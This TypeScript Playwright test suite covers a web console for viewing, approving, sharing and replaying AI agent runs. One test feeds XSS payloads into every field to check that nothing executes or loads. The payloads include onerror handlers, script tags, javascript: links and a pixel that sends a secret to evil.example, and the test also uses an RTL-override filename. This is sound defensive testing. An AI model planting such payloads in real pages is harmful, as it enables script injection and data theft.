import type { Browser, Request } from "playwright-core";
import { afterAll, afterEach, beforeAll, describe, expect, test } from "vitest";
import { checkLook, looks } from "./checkLook";
import { Freshet } from "./Freshet";
import { longestTask } from "./longestTask";
import { call, event, ReportedRun, thought } from "./ReportedRun";
import { launch, Screen, type ScreenOptions } from "./Screen";
import { shiftsOf, watchShifts } from "./shifts";

let freshet: Freshet;
let browser: Browser;
/** Ann's. */
let screen: Screen;
let ann: string;

beforeAll(async () => {
  const settings = ["agents.tools.edit-file=ask", "agents.scripted-delay=4ms"];
  [freshet, browser] = await Promise.all([Freshet.start("serve", settings), launch()]);
  ann = await freshet.token();
  screen = await signedIn(list(), ann);
});

afterAll(async () => {
  await browser?.close();
  await freshet?.close();
});

afterEach(() => {
  expect(screen.complaints.splice(0)).toEqual([]);
});

const landing = "Make a landing page for a bakery.";
const list = () => `${freshet.url}/console/runs`;
const at = (id: string) => `${list()}/${id}`;
const button = (name: string | RegExp, on = screen) =>
  on.page.getByRole("button", { name, exact: true });
const badge = (status: string, on = screen) =>
  on.page.locator(`main [data-status="${status}"]`).first();
const story = (on = screen) => on.page.getByRole("region", { name: "What happened" });
const prompt = (on = screen) => on.page.getByRole("region", { name: "Approval needed" });
const outcome = (on = screen) => on.page.getByTestId("outcome");

const viewers = (on = screen) => on.page.getByRole("dialog").locator("input").first();

async function signedIn(url: string, token: string, options: ScreenOptions = {}) {
  const other = await Screen.open(browser, options);
  await other.signIn(url, token);
  return other;
}

/** Has the server's agent begin, past the console. */
async function execute(task: string, as = ann): Promise<string> {
  const run = await freshet.send(as, "POST", "/api/agent/execute", { task });
  return (run as { executionId: string }).executionId;
}

const begin = (task: string, more = {}) => ReportedRun.begin(freshet, ann, task, more);

/** One that waits for approval, and stays so. */
async function waitingRun(task: string): Promise<ReportedRun> {
  const run = await begin(task);
  await run.report(
    event("plan:created", {
      plan: {
        goal: "A page",
        phases: [
          { id: "p1", name: "Look around" },
          { id: "p2", name: "Write the page, in one go" },
          { id: "p3", name: "Check it" },
        ],
      },
    }),
    event("phase:start", { phaseId: "p1", phaseName: "Look around", phaseIndex: 0 }),
    thought("t1", "First I look **what there is**."),
    ...call("c1", { toolName: "list_files", params: { path: "." }, result: { files: [] } }),
    event("phase:complete", {
      ...{ phaseId: "p1", phaseName: "Look around", phaseIndex: 0, duration: 1_200 },
    }),
    event("phase:start", { phaseId: "p2", phaseName: "Write the page, in one go", phaseIndex: 1 }),
    ...call("c2", {
      toolName: "read_file",
      params: { path: "../secret" },
      ...{ status: "failed", result: null, error: "The path leaves the run's directory." },
    }),
    event("approval:requested", {
      approvalId: "a1",
      callId: "c3",
      toolName: "create_file",
      params: { path: "index.html", content: "<h1>Bread</h1>\n<p>Daily</p>\n", mode: { x: 1 } },
      expiresAt: null,
    }),
  );
  return run;
}

async function fadedIn(on = screen): Promise<void> {
  const dialog = on.page.getByRole("dialog");
  const opacity = () => dialog.evaluate((element) => getComputedStyle(element).opacity);
  await expect.poll(opacity).toBe("1");
}

test("list_none_offersTheFirst", async () => {
  await screen.page.goto(list());
  await screen.page.getByText("No runs yet").waitFor();
  await button("Start the first run…").waitFor();
});

test("start_byKeyboard_watchedByALateViewer_reloaded_approvedByAKey_ends", async () => {
  await screen.page.goto(list());
  await button("New run…").focus();
  await screen.page.keyboard.press("Enter");
  const form = screen.page.getByRole("form", { name: "Start an agent" });
  await form.getByText("a script is played").waitFor();
  await form.getByLabel("Task").fill(landing);
  await screen.page.keyboard.press("Control+Enter");
  await screen.page.getByRole("heading", { level: 1, name: landing }).waitFor();
  await screen.page.locator("main").getByText("scripted").first().waitFor();

  await prompt().waitFor();
  await expect.poll(() => screen.page.title()).toContain("Waiting");
  const asked = await story().innerText();
  expect(asked).toContain("create_file");
  await screen.page.reload();
  await prompt().getByText("edit_file").waitFor();
  await expect.poll(() => story().innerText()).toBe(asked);

  const id = screen.page.url().split("/").at(-1) as string;
  const late = await signedIn(at(id), ann);
  await prompt(late).waitFor();
  await expect.poll(() => story(late).innerText()).toBe(asked);

  await expect.poll(() => prompt().evaluate((it) => it === document.activeElement)).toBe(true);
  await screen.page.keyboard.press("a");
  await badge("completed").waitFor();
  await badge("completed", late).waitFor();
  await prompt(late).waitFor({ state: "hidden" });
  await outcome().getByText("Result", { exact: true }).waitFor();
  await expect.poll(() => story(late).innerText()).toBe(await story().innerText());
  await screen.connection("Ended");
  await screen.page.getByRole("list", { name: "Files" }).getByText("style.css").waitFor();
  await button("index.html").last().click();
  await screen.page.getByRole("group", { name: "Content of index.html" }).waitFor();
  await fadedIn();
  await checkLook(screen);
  await late.close();
});

test("start_withAFile_summarisesIt", async () => {
  await screen.page.goto(list());
  await button("New run…").click();
  await button("A summary of a CSV file").click();
  await button("Remove harvest.csv").click();
  await screen.page.locator("input[type=file]").setInputFiles([
    {
      name: "tea.csv",
      mimeType: "text/csv",
      buffer: Buffer.from("kind,grams\ngreen,5\nblack,7\n"),
    },
    { name: "tea.png", mimeType: "image/png", buffer: Buffer.from([0x89, 0x50, 0xff, 0]) },
  ]);
  await screen.page.getByRole("alert").filter({ hasText: "tea.png is no text" }).waitFor();
  await screen.page.getByLabel("Task").fill("Summarise the CSV file tea.csv");
  await button("Start").click();
  await badge("completed").waitFor();
  await outcome().getByText("grams").first().waitFor();
  await button(/^summary\.md/)
    .first()
    .waitFor();
});

test("start_withoutTheGrant_isRefused", async () => {
  const token = await freshet.token({ subject: "guest", read: [], write: [] });
  const guest = await signedIn(list(), token);
  await button("New run…", guest).click();
  await guest.page.getByLabel("Task").fill("Anything");
  await button("Start", guest).click();
  await guest.page.getByRole("alert").filter({ hasText: "You may not start agents" }).waitFor();
  await guest.close();
});

test("failing_saysWhy", async () => {
  const id = await execute("Try something that is bound to fail.");
  await screen.page.goto(at(id));
  await badge("failed").waitFor();
  await outcome().getByText("agent_failed").waitFor();
  await screen.page.locator("[data-call]").getByText("failed").waitFor();
});

test("cancel_isConfirmed_andTellsWhy", async () => {
  const id = await execute(landing);
  await screen.page.goto(at(id));
  await prompt().waitFor();
  await button("Cancel…").click();
  await button("Let it run").click();
  await screen.page.getByRole("dialog").waitFor({ state: "hidden" });
  await button("Cancel…").click();
  await screen.page.getByLabel("Reason").fill("changed my mind");
  await button("Cancel the run").click();
  await outcome().getByText("By ann: changed my mind").waitFor();
  await prompt().waitFor({ state: "hidden" });
  expect(await button("Cancel…").count()).toBe(0);
});

test("reject_withAReason_isToldTheAgent", async () => {
  const run = await waitingRun("Rejected");
  await screen.page.goto(at(run.id));
  await prompt().waitFor();
  await screen.page.keyboard.press("r");
  await screen.page.keyboard.type("an ugly page");
  await screen.page.keyboard.press("Enter");
  await prompt().waitFor({ state: "hidden" });
  await story().getByText("rejected", { exact: true }).waitFor();
  const { approvals } = (await freshet.send(ann, "GET", `/api/agent/executions/${run.id}`)) as {
    approvals: readonly object[];
  };
  expect(approvals).toMatchObject([{ decision: "rejected", by: "ann", reason: "an ugly page" }]);
});

test("approval_whileSomebodyTypes_waitsForAltA", async () => {
  const run = await begin("Busy");
  await screen.page.goto(at(run.id));
  await badge("running").waitFor();
  await button("Share…").click();
  await viewers().fill("ca");
  await run.report(
    event("approval:requested", {
      ...{ approvalId: "a", callId: "c", toolName: "look", params: {}, expiresAt: null },
    }),
  );
  await prompt().waitFor();
  await screen.page.keyboard.type("rla");
  expect(await viewers().inputValue()).toBe("carla");
  await screen.page.keyboard.press("Escape");
  await screen.page.keyboard.press("Alt+a");
  await screen.page.keyboard.press("a");
  await story().getByText("approved", { exact: true }).waitFor();
});

test("shared_isSeenByThoseNamed_whoMayNotChangeIt_andByNobodyElse", async () => {
  const run = await waitingRun("Between us");
  const bob = await signedIn(at(run.id), await freshet.token({ subject: "bob" }));
  await bob.page.getByRole("heading", { name: "There is no such run" }).waitFor();

  await screen.page.goto(at(run.id));
  await button("Share…").click();
  await viewers().fill("bob");
  await screen.page.keyboard.press("Enter");
  await fadedIn();
  await checkLook(screen);
  await button("Save").click();
  await screen.page.locator("dd").getByText("bob", { exact: true }).waitFor();

  await bob.page.reload();
  await bob.page.getByText("Waits for ann").waitFor();
  await story(bob).getByText("waits for approval", { exact: true }).waitFor();
  expect(await prompt(bob).count()).toBe(0);
  expect(await button("Cancel…", bob).count()).toBe(0);
  expect(await button("Delete…", bob).count()).toBe(0);

  await freshet.send(ann, "PUT", `/api/agent/executions/${run.id}/viewers`, { viewers: [] });
  await bob.page.getByText("This run is not there any more").waitFor();
  expect(bob.complaints).toEqual([]);
  await bob.close();
});

test("deleted_whileWatched_saysSo_byItsOwner_goesToTheList", async () => {
  const over = await begin("Over and gone");
  await over.complete();
  const run = await waitingRun("Short-lived");
  await screen.page.goto(at(run.id));
  const [reader, owner] = await Promise.all([
    signedIn(at(over.id), ann),
    signedIn(at(run.id), ann),
  ]);
  await reader.connection("Ended");
  await freshet.send(ann, "DELETE", `/api/agent/executions/${over.id}`);
  await button("Delete…", owner).click();
  await button("Delete the run", owner).click();
  await owner.page.getByRole("heading", { level: 1, name: "Agent runs" }).waitFor();
  await screen.page.getByText("This run is not there any more").waitFor();
  await screen.page.getByRole("heading", { name: "Short-lived" }).waitFor();
  await owner.close();
  await reader.page.getByText("This run is not there any more").waitFor();
  await reader.close();
});

test("thoughts_grow_andNothingElseMoves", async () => {
  const run = await begin("Growing");
  await run.report(...call("c1"), ...call("c2"));
  await screen.page.goto(at(run.id));
  await story().locator("[data-call=c2]").waitFor();
  await watchShifts(screen);
  let length = 0;
  for (const delta of ["First ", "a word, ", "then a **bold", "** one.\n\n", "- and a list"]) {
    await run.report(
      event("thinking:delta", {
        ...{ thoughtId: "t", iteration: 1, kind: "reasoning", at: length, delta },
      }),
    );
    length += delta.length;
    const words = delta.replace(/[^a-z ]/gi, "").trim();
    if (words !== "")
      await story()
        .getByText(words.split(" ").at(-1) ?? "")
        .first()
        .waitFor();
  }
  await story().getByRole("listitem").getByText("and a list").waitFor();
  expect(await shiftsOf(screen)).toEqual([]);
});

test("replay_ofAFinishedRun_atAnySpeed_byKeyboard", async () => {
  const run = await begin("Seen again");
  for (const id of ["c1", "c2", "c3"]) {
    await run.report(...call(id));
    await screen.page.waitForTimeout(150);
  }
  await run.complete("**Well** done");
  const names = ["carla"];
  await freshet.send(ann, "PUT", `/api/agent/executions/${run.id}/viewers`, { viewers: names });
  await screen.page.goto(at(run.id));
  await outcome().getByText("Well").waitFor();
  await screen.page.locator("dd").getByText("carla", { exact: true }).waitFor();
  await button("Replay").click();
  const bar = screen.page.getByRole("region", { name: "Replay" });
  await bar.waitFor();
  await button("Pause").or(button("Play")).waitFor();
  await bar.getByLabel("Speed").selectOption("16");
  await outcome().getByText("Well").waitFor();
  await button("Play").waitFor();
  await bar.getByLabel("Position").press("Home");
  await outcome().waitFor({ state: "hidden" });
  expect(await story().locator("[data-call=c3]").count()).toBe(0);
  await bar.getByLabel("Position").press("End");
  await outcome().getByText("Well").waitFor();
  await button("End replay").click();
  await bar.waitFor({ state: "hidden" });
  await outcome().getByText("Well").waitFor();
});

test("fiveThousandSteps_areScrolledSmoothly_andFollowed", async () => {
  const run = await begin("Long");
  for (let batch = 0; batch < 25; batch++) {
    const numbers = Array.from({ length: 100 }, (_, i) => batch * 100 + i);
    await run.report(
      ...numbers.flatMap((i) => [
        thought(`t${i}`, `Step ${i}: ${"I go **on** and on. ".repeat(i % 9)}`),
        ...call(`c${i}`, { params: { path: `file-${i}` } }),
      ]),
    );
  }
  await screen.page.goto(at(run.id));
  const last = story().locator("[data-call=c2499]");
  await last.waitFor();
  expect(await story().getByRole("listitem").count()).toBeLessThan(60);
  const longest = await longestTask(browser, screen.page, async () => {
    await story().hover();
    for (let i = 0; i < 12; i++) {
      await screen.page.mouse.wheel(0, -3_000);
      await screen.page.waitForTimeout(30);
    }
    await story().focus();
    await screen.page.keyboard.press("Home");
    await story().getByText("Step 0:").waitFor();
  });
  expect(longest).toBeLessThan(100);

  // Away from the end, what comes moves nothing.
  const top = () => story().evaluate((element) => element.scrollTop);
  const before = await top();
  await run.report(...call("new"));
  await button(/^1 new$/).waitFor();
  expect(await top()).toBe(before);
  await button(/^1 new$/).click();
  await story().locator("[data-call=new]").waitFor();
  await run.report(...call("newer"), thought("newest", "At the end"));
  await story().getByText("At the end").waitFor();
  await button(/new$|Latest/).waitFor({ state: "hidden" });
});

test("hostileText_inEveryField_doesAndLoadsNothing", async () => {
  const script = "<img src='https://evil.example/x' onerror='window.hacked=1'>";
  const markdown = [
    script,
    "<script>window.hacked=1</script>",
    "[click](javascript:window.hacked=1)",
    "![see](https://evil.example/pixel?secret)",
    "<a href='javascript:window.hacked=1'>raw</a>",
    "<iframe src='https://evil.example'></iframe>",
    "[fine](https://example.org/)",
  ].join("\n\n");
  const asked: string[] = [];
  const note = (request: Request) => asked.push(request.url());
  screen.page.on("request", note);
  const run = await begin(`${script} task\u202egnp.exe`, {
    model: { name: script, provider: script, scripted: false },
  });
  await run.report(
    event("plan:created", { plan: { goal: script, phases: [{ id: "p", name: script }] } }),
    event("phase:start", { phaseId: "p", phaseName: script, phaseIndex: 0 }),
    thought("t", markdown),
    ...call("c1", {
      toolName: script,
      params: { [script]: markdown, deep: [{ [script]: script }] },
      result: { text: markdown, "</pre><script>": "x".repeat(200 * 1024) },
      files: [{ path: `${script}.html`, bytes: 10 }],
    }),
    ...call("c2", {
      ...{ toolName: script, status: "failed", result: null, error: markdown },
    }),
    event("approval:requested", {
      approvalId: "a",
      callId: "c3",
      toolName: script,
      params: { [script]: markdown },
      expiresAt: null,
    }),
  );
  await screen.page.goto(at(run.id));
  await prompt().waitFor();
  await story().evaluate((element) => element.scrollTo(0, 0));
  await story().locator("[data-call=c1] button[aria-expanded=false]").click();
  await button("Show the whole").click();
  await button("Show the whole").waitFor({ state: "hidden" });
  await screen.page.getByText("click", { exact: true }).first().click();
  await freshet.send(ann, "POST", `/api/agent/executions/${run.id}/approvals/a`, {
    ...{ decision: "reject", reason: markdown },
  });
  await run.catchUp();
  await run.report(
    event("phase:complete", {
      ...{ phaseId: "p", phaseName: script, phaseIndex: 0, duration: 1 },
    }),
  );
  await run.complete(markdown);
  await outcome().getByText("fine").waitFor();
  const isHacked = () => screen.page.evaluate(() => "hacked" in window);
  expect(await isHacked()).toBe(false);
  await screen.page.goto(list());
  await screen.page.getByRole("row").filter({ hasText: "onerror" }).first().waitFor();
  expect(await isHacked()).toBe(false);
  screen.page.off("request", note);
  expect(asked.filter((url) => !url.startsWith(freshet.url))).toEqual([]);
});

test("list_isLive_pickedByStatus_andPaged", async () => {
  await screen.page.goto(list());
  await button("New run…").waitFor();
  const run = await begin("Listed");
  const row = screen.page.getByRole("row").filter({ hasText: "Listed" });
  await row.locator("[data-status=running]").waitFor();
  await run.complete();
  await row.locator("[data-status=completed]").waitFor();
  await button("Failed").click();
  await screen.page.waitForURL(/status/);
  await row.waitFor({ state: "hidden" });
  await screen.page.getByRole("row").filter({ hasText: "bound to fail" }).first().waitFor();
  await button("Failed").click();
  await Promise.all(Array.from({ length: 50 }, (_, i) => begin(`Newer ${i}`)));
  await screen.page.getByRole("row").filter({ hasText: "Newer" }).first().waitFor();
  await row.waitFor({ state: "hidden" });
  await button("Show older runs").click();
  await row.waitFor();
});

test("serverKilledAndRestarted_reportedRunGoesOn_theServersOwnIsInterrupted", async () => {
  const run = await begin("Through a crash");
  await run.report(...call("before"));
  const id = await execute(landing);
  const [own] = await Promise.all([signedIn(at(id), ann), screen.page.goto(at(run.id))]);
  await story().locator("[data-call=before]").waitFor();
  await prompt(own).waitFor();
  await screen.mark();
  await freshet.kill();
  await screen.connection(/Reconnecting/);
  await screen.page.getByText("Not live.").waitFor();
  await story().locator("[data-call=before]").waitFor();
  await freshet.restart();
  await screen.connection("Live");
  await run.report(...call("after"));
  await story().locator("[data-call=after]").waitFor();
  expect(await screen.isMarked()).toBe(true);
  await outcome(own).getByText("interrupted").waitFor();
  await prompt(own).waitFor({ state: "hidden" });
  expect(own.complaints).toEqual([]);
  await own.close();
});

describe.each(looks)("%s, %s", (_, colorScheme, viewport) => {
  test("runs_areAccessible_andFit", async () => {
    const waiting = await waitingRun("A run that waits for somebody to approve what it does");
    const done = await begin("A run that has ended\nwith a longer task", {
      model: { name: "a-model", provider: "elsewhere", scripted: false },
    });
    const markdown =
      "# Found\n\n| a | b |\n|--|--|\n| 1 | 2 |\n\n- [x] done\n\n`x` [y](https://a.example)";
    await done.report(
      thought("t", markdown),
      ...call("c", { params: { path: "a" }, files: [{ path: "a", bytes: 1 }] }),
    );
    await done.complete(markdown);
    const look = await signedIn(list(), ann, { colorScheme, viewport });
    await look.page.getByRole("row").filter({ hasText: "has ended" }).first().waitFor();
    await checkLook(look);
    await button("New run…", look).click();
    await button("A landing page", look).waitFor();
    await look.page.getByText("Context and limits").click();
    await fadedIn(look);
    await checkLook(look);
    await look.page.goto(at(waiting.id));
    await prompt(look).waitFor();
    await look.connection("Live");
    await checkLook(look);
    await look.page.goto(at(done.id));
    await outcome(look).getByRole("table").waitFor();
    await story(look).locator("[data-call=c] button[aria-expanded=false]").click();
    await button("Replay", look).click();
    await button("End replay", look).waitFor();
    await checkLook(look);
    await look.close();
  });
});
